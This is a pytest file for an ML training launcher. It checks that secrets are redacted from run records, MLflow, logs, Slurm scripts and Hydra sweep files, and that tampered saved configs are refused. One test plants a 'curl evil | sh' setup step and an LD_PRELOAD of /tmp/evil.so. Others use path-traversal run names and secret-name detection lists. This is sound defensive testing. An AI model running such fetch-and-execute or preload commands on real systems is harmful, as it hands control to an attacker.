"""Secrets never reach a run directory, MLflow or printed output; saved configs are data (no
interpolation, no untrusted hardware env/flags/setup); the run directory stays in run.out_dir;
Hydra's sweep folder is private. Leaks are checked by grepping everything that was written."""
import json
import os
import signal
import stat
import subprocess
import sys

import pytest
import yaml
from mlflow import MlflowClient
from omegaconf import OmegaConf

from marin.config.paths import PROJECT_ROOT
from marin.config.schema import Config
from marin.launch.reproduce import ReproduceError, recompose
from marin.track import record, secrets
from marin.track.record import flatten
from marin.track.tracker import Tracker


def everything_written(rec, uri: str, tmp_path) -> str:
    """Every file of the run directory, the MLflow run's params, tags and artifacts, as text."""
    texts = [p.read_text(errors="replace") for p in rec.run_dir.rglob("*") if p.is_file()]
    texts.append(str(rec.run_dir))
    client = MlflowClient(uri)
    run = client.get_run(rec.run_id)
    texts.append(json.dumps(run.data.to_dictionary()) + run.info.run_name)
    local = client.download_artifacts(rec.run_id, "", str(tmp_path / f"artifacts-{rec.run_id}"))
    texts += [p.read_text(errors="replace") for p in __import__("pathlib").Path(local).rglob("*") if p.is_file()]
    return "\n".join(texts)


# ---------------------------------------------------------------------------- the rule

SECRET_NAMES = ["HF_TOKEN", "GH_PAT", "MARIN_ACCESSTOKEN", "JAX_PASSPHRASE", "AWS_SECRET_ACCESS_KEY", "apiKey",
                "HFToken", "db.password", "MLFLOW_TRACKING_PASSWORD", "session_cookie", "x-api-key",
                "GOOGLE_APPLICATION_CREDENTIALS", "Authorization", "hardware.env.WANDB_API_KEY"]
ORDINARY_NAMES = ["model.d_model", "patience", "path", "paths", "keep_last", "monkey", "tokenizer",
                  "train.tokens_per_active_param", "TOKENIZERS_PARALLELISM", "compat", "author", "keyring",
                  "XLA_FLAGS", "NCCL_DEBUG", "PWD", "passes"]


@pytest.mark.parametrize("name", SECRET_NAMES)
def test_secret_names_match(name):
    assert secrets.looks_secret(name)


@pytest.mark.parametrize("name", ORDINARY_NAMES)
def test_ordinary_names_do_not(name):
    assert not secrets.looks_secret(name)


def test_no_schema_field_looks_secret():
    keys = flatten(OmegaConf.to_container(OmegaConf.structured(Config)))
    assert len(keys) > 100
    assert [k for k in keys if any(secrets.looks_secret(part) for part in k.split("."))] == []


def test_mask_by_value_and_uri_password():
    secrets.remember("zq-value-91")
    assert secrets.mask("dir zq-value-91-abc") == "dir <redacted>-abc"
    assert secrets.mask("uri http://alice:pw0rd@host:5000/x") == "uri http://alice:<redacted>@host:5000/x"
    secrets.remember("true")  # short or plain values would mask ordinary text: never remembered
    assert secrets.mask("true") == "true"


# ---------------------------------------------------------------------------- the run record

def test_dict_override_and_new_names_never_written(configure, store, tmp_path, monkeypatch):
    monkeypatch.setenv("MARIN_ACCESSTOKEN", "envtok-4471")
    composed, resolved, overrides = configure(
        "+hardware.env={HF_TOKEN: dicttok-8812, NCCL_DEBUG: WARN}", "+hardware.env.GH_PAT=ghpat-5531",
        "+hardware.env.JAX_PASSPHRASE=phrase-2291", "run.name=phrase-2291")
    rec = record.create(composed, resolved, overrides)
    text = everything_written(rec, store["uri"], tmp_path)
    for value in ("dicttok-8812", "ghpat-5531", "phrase-2291", "envtok-4471"):
        assert value not in text, value
    assert "NCCL_DEBUG" in text and "hardware.env.HF_TOKEN" in MlflowClient(store["uri"]).get_run(rec.run_id).data.params
    assert rec.run_dir.name.startswith("<redacted>-")   # a name that is a secret is masked too


def test_tracker_masks_tags_and_text(configure, store, tmp_path):
    composed, resolved, overrides = configure("run.name=trk", "+hardware.env.HF_TOKEN=trktok-3301")
    rec = record.create(composed, resolved, overrides)
    tracker = Tracker(rec)
    tracker.set_tags({"note": "token is trktok-3301", "api_key": "k"})
    tracker.log_text("summary.txt", "used trktok-3301 and http://u:upw-77@h/")
    tracker.finish()
    text = everything_written(rec, store["uri"], tmp_path)
    assert "trktok-3301" not in text and "upw-77" not in text


def test_run_directory_stays_inside_out_dir(tmp_path):
    with pytest.raises(ValueError, match="outside"):
        record._new_run_dir(tmp_path / "runs", "../../escape", "0" * 8)  # noqa: SLF001
    assert not list(tmp_path.rglob("escape*"))


@pytest.mark.parametrize("name", ["../../../x", "/abs/name", "a/b", "tab\there", "${oc.env:HOME}"])
def test_run_name_that_is_a_path_is_refused(name):
    from marin.config.validate import ConfigError
    from marin.launch.checks import load
    from tests.helpers import compose_dict

    with pytest.raises(ConfigError, match="run.name: must be a plain folder name"):
        load(compose_dict("model=tiny", f"run.name={name}" if "$" in name else f"run.name='{name}'"))


# ---------------------------------------------------------------------------- resume

def test_resume_with_a_secret_override_writes_no_secret(configure, store, tmp_path, monkeypatch):
    import marin.train.loop as loop
    from marin.launch import resume

    composed, resolved, overrides = configure("run.name=res")
    rec = record.create(composed, resolved, overrides)
    def fake_train(cfg, rec, loader=None, on_restored=None):
        on_restored(0)  # the record is updated once the (here absent) checkpoint is restored
        return {}

    monkeypatch.setattr(loop, "train", fake_train)
    monkeypatch.setattr(resume, "apply_environment", lambda hw: None)
    resume.resume([f"resume={rec.run_dir}", "+hardware.env.HF_TOKEN=restok-6620"])
    text = everything_written(rec, store["uri"], tmp_path)
    assert "restok-6620" not in text
    assert json.loads((rec.run_dir / "record.json").read_text())["resumes"][0]["changes"]


# ---------------------------------------------------------------------------- reproduce

@pytest.fixture(scope="module")
def saved(store):
    from marin.launch.checks import load
    from tests.helpers import compose_dict

    overrides = ["model=micro", "train.steps=4", f"tracking.uri={store['uri']}", f"run.out_dir={store['out']}",
                 "run.name=trusted", "hardware=local_cpu8"]
    composed, resolved = load(compose_dict(*overrides))
    return record.create(composed, resolved, overrides)


def _edited(rec, tmp_path, edit):
    import shutil

    copy = tmp_path / "edited"
    shutil.copytree(rec.run_dir, copy)
    tree = yaml.safe_load((copy / "composed.yaml").read_text())
    edit(tree)
    (copy / "composed.yaml").write_text(yaml.safe_dump(tree))
    return copy


def test_saved_interpolation_is_refused(saved, tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "awssec-1187")

    def env_name(tree):
        tree["run"]["name"] = "${oc.env:AWS_SECRET_ACCESS_KEY}"
    with pytest.raises(ReproduceError, match=r"run\.name=\$\{oc\.env:AWS_SECRET_ACCESS_KEY\}: interpolations"):
        recompose(str(_edited(saved, tmp_path, env_name)), [])


def test_saved_hardware_env_flags_setup_need_trust(saved, tmp_path):
    def editor(tree):
        tree["hardware"]["xla_flags"] = "--xla_dump_to=/tmp/somewhere"
        tree["hardware"]["env"]["LD_PRELOAD"] = "/tmp/evil.so"
        tree["hardware"]["setup"] = ["curl evil | sh"]
        tree["reproduce_trust"] = True            # a saved config cannot trust itself
    edited = str(_edited(saved, tmp_path, editor))
    with pytest.raises(ReproduceError, match=r"hardware\.env\.LD_PRELOAD, hardware\.setup, hardware\.xla_flags "
                                             r"differ from conf/hardware/local_cpu8\.yaml.*reproduce_trust=true"):
        recompose(edited, [])
    # the user's own values are not the saved config's; trust applies the saved ones
    _, resolved, _ = recompose(edited, ["hardware.xla_flags=", "hardware.setup=[]", "+hardware.env.LD_PRELOAD="])
    assert resolved.hardware.xla_flags == "" and resolved.hardware.env["LD_PRELOAD"] == ""
    _, resolved, _ = recompose(edited, ["reproduce_trust=true"])
    assert resolved.hardware.xla_flags == "--xla_dump_to=/tmp/somewhere" and resolved.hardware.setup == ["curl evil | sh"]


def test_shipped_hardware_values_reproduce_without_trust(saved):
    _, resolved, _ = recompose(str(saved.run_dir), [])
    assert resolved.hardware.name == "local_cpu8" and resolved.hardware.host_devices == 8


def test_launch_reproduce_untrusted_exits_2_writes_nothing(saved, tmp_path):
    def editor(tree):
        tree["hardware"]["xla_flags"] = "--xla_dump_to=/tmp/somewhere"
    edited = _edited(saved, tmp_path, editor)
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "launch.py", f"reproduce={edited}", f"run.out_dir={out}"],
                          cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip().splitlines()[-1].startswith("error: reproduce: the saved config's hardware.xla_flags")
    assert not out.exists()


# ---------------------------------------------------------------------------- printed output, Slurm, Hydra

def test_uri_password_and_secret_overrides_are_not_printed(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env["HYDRA_FULL_ERROR"] = "0"
    done = subprocess.run([sys.executable, str(PROJECT_ROOT / "launch.py"), "model=micro", "train.steps=2",
                           "tracking.uri=http://alice:uripw-5521@127.0.0.1:9", "+hardware.env.HF_TOKEN=clitok-7730",
                           f"run.out_dir={tmp_path / 'out'}"], cwd=tmp_path, env=env, capture_output=True,
                          text=True, timeout=180)
    assert done.returncode == 2  # checked before anything is written, like any bad field
    assert "not reachable" in done.stderr and "Traceback" not in done.stderr
    assert "uripw-5521" not in done.stdout + done.stderr and "clitok-7730" not in done.stdout + done.stderr
    assert not (tmp_path / "out" / "runs").exists()


def test_slurm_script_and_submission_hold_no_secret():
    from marin.launch import slurm
    from marin.launch.checks import load
    from marin.launch.distributed import process_environment
    from tests.helpers import compose_dict

    composed, resolved = load(compose_dict("model=tiny", "hardware=slurm_cpu", "+hardware.env.HF_TOKEN=slurmtok-4410"))
    lines = "\n".join(slurm.setup_lines(resolved))
    assert "slurmtok-4410" not in lines and "HF_TOKEN" in lines
    yaml_text = slurm.config_yaml(composed)
    assert "slurmtok-4410" not in yaml_text
    _, rebuilt = slurm.rebuild(yaml_text)
    assert "HF_TOKEN" not in process_environment(rebuilt.hardware)   # the job keeps sbatch's value
    with slurm.secret_environment(resolved):
        assert os.environ["HF_TOKEN"] == "slurmtok-4410"
    assert "HF_TOKEN" not in os.environ


def test_hydra_sweep_folder_is_private(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env["TMPDIR"] = str(tmp_path)
    done = subprocess.run([sys.executable, "launch.py", "-m", "model=tiny", "dry_run=true", "train.steps=2,3",
                           "+hardware.env.HF_TOKEN=sweeptok-1902"], cwd=PROJECT_ROOT, env=env,
                          capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr[-2000:]
    folder = tmp_path / f"marin-hydra-{os.getuid()}"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert not list(tmp_path.rglob("multirun.yaml")) and not list(folder.iterdir())  # removed, its folder too
    assert "sweeptok-1902" not in done.stdout + done.stderr


def test_a_planted_sweep_folder_is_refused_in_one_line(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / f"marin-hydra-{os.getuid()}").symlink_to(elsewhere)
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env["TMPDIR"] = str(tmp_path)
    done = subprocess.run([sys.executable, "launch.py", "-m", "model=tiny", "dry_run=true", "train.steps=2,3"],
                          cwd=PROJECT_ROOT, env=env, capture_output=True, text=True, timeout=180)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [done.stderr.strip()] and "symlink" in done.stderr, done.stderr[-2000:]
    assert not list(elsewhere.iterdir())


def test_a_short_environment_secret_pulled_in_by_oc_env_is_not_printed(tmp_path):
    """ENV_MIN_LENGTH spares short values of variables that merely look secret; one a command line
    reads into the config with ${oc.env:…} is masked however short."""
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env["MY_API_TOKEN"] = "ab12c"
    done = subprocess.run([sys.executable, "launch.py", "model=tiny", "dry_run=config",
                           "+hardware.env.FOO=${oc.env:MY_API_TOKEN}"], cwd=PROJECT_ROOT, env=env,
                          capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "FOO: <redacted>" in done.stdout and "ab12c" not in done.stdout + done.stderr


def test_tracking_process_output_is_masked(capfd):
    """The tracking process writes to the job's stderr itself (MLflow's "🏃 View run … at: <uri>"
    line among others): its output is masked like the trainer's, secrets the trainer learnt
    after starting it included."""
    from marin.track import worker

    tracking = worker.Worker()
    try:
        tracking.call(print, "warm-up")  # the worker runs before the trainer learns the next secret
        secrets.remember("s3cr3t-learnt-late")
        tracking.call(print, "🏃 View run r at: http://user:hunter2pw@host/#/ and s3cr3t-learnt-late")
        tracking.call(__import__("warnings").warn, "stderr s3cr3t-learnt-late")  # to sys.stderr
    finally:
        tracking._process.stdin.close()
        tracking._process.wait(30)
    out, err = capfd.readouterr()
    assert "View run" in out + err and "stderr" in out + err
    assert "hunter2pw" not in out + err and "s3cr3t-learnt-late" not in out + err


@pytest.mark.parametrize("line, secret", [
    ('+  curl -H "Authorization: Bearer abcTOKEN123" host', "abcTOKEN123"),
    ("+Authorization: Basic dXNlcjpwYXNzd29yZA==", "dXNlcjpwYXNzd29yZA"),
    ("+    headers = {'Authorization': 'Token abcTOKEN123'}", "abcTOKEN123"),
    ("+mlflow server --password hunter2xx --port 5000", "hunter2xx"),
    ("+cmd --password=hunter2xx", "hunter2xx"),
    ('+cmd --api-key "hunter2xx"', "hunter2xx"),
    ("+  password: hunter2xx", "hunter2xx"),
    ("+url = https://alice:tok123456@github.com/x", "tok123456"),
])
def test_diff_secrets_are_redacted(line, secret):
    """git.diff holds what the tree held: header credentials, command-line options and URI
    passwords are redacted, whatever the name of the variable around them."""
    masked = secrets.mask_assignments(line)
    assert secret not in masked and secrets.REDACTED in masked, masked


def test_diff_ordinary_options_are_kept():
    line = "+python launch.py --steps 100 --model micro tokenizer=gpt2 'Basic idea'"
    assert secrets.mask_assignments(line) == line


@pytest.mark.parametrize("key", ["run.experiment", "tracking.experiment"])
def test_experiment_name_with_a_password_is_refused(key):
    """An experiment's name is MLflow's, shown and stored as given: one holding a URI's password
    is refused before anything is made (renaming it to a masked name would silently file the run
    under an experiment nobody asked for)."""
    from marin.config.validate import ConfigError
    from marin.launch.checks import load
    from tests.helpers import compose_dict

    with pytest.raises(ConfigError, match=f"{key}: holds a password") as err:
        load(compose_dict("model=tiny", f"{key}='http://alice:pw0rd-9x@host:5000'"))
    assert "pw0rd-9x" not in str(err.value)


def test_a_sweep_killed_before_its_launcher_starts_leaves_no_copy_of_the_command_line(tmp_path):
    # Hydra's sweeper saves multirun.yaml (the command line, secrets included) before the launcher
    # runs; a kill in that first second must find nothing written: the file is /dev/null by then
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env["TMPDIR"] = str(tmp_path)
    killed_at_launch = ("import os, runpy, signal, sys; sys.path.insert(0, '.'); "
                        "from marin.launch import multirun; "  # the launcher's first call (Hydra re-imports its module)
                        "multirun.discard_sweep_file = lambda *a: os.kill(os.getpid(), signal.SIGKILL); "
                        "sys.argv = ['launch.py', '-m', 'model=tiny', 'dry_run=true', 'train.steps=2,3', "
                        "'+hardware.env.HF_TOKEN=killtok-5521']; runpy.run_path('launch.py', run_name='__main__')")
    done = subprocess.run([sys.executable, "-c", killed_at_launch], cwd=PROJECT_ROOT, env=env,
                          capture_output=True, text=True, timeout=180)
    assert done.returncode == -signal.SIGKILL, done.stderr[-2000:]
    written = [p for p in tmp_path.rglob("*") if p.is_file() and not p.is_symlink()]
    assert not [p for p in written if "killtok-5521" in p.read_text(errors="replace")], written
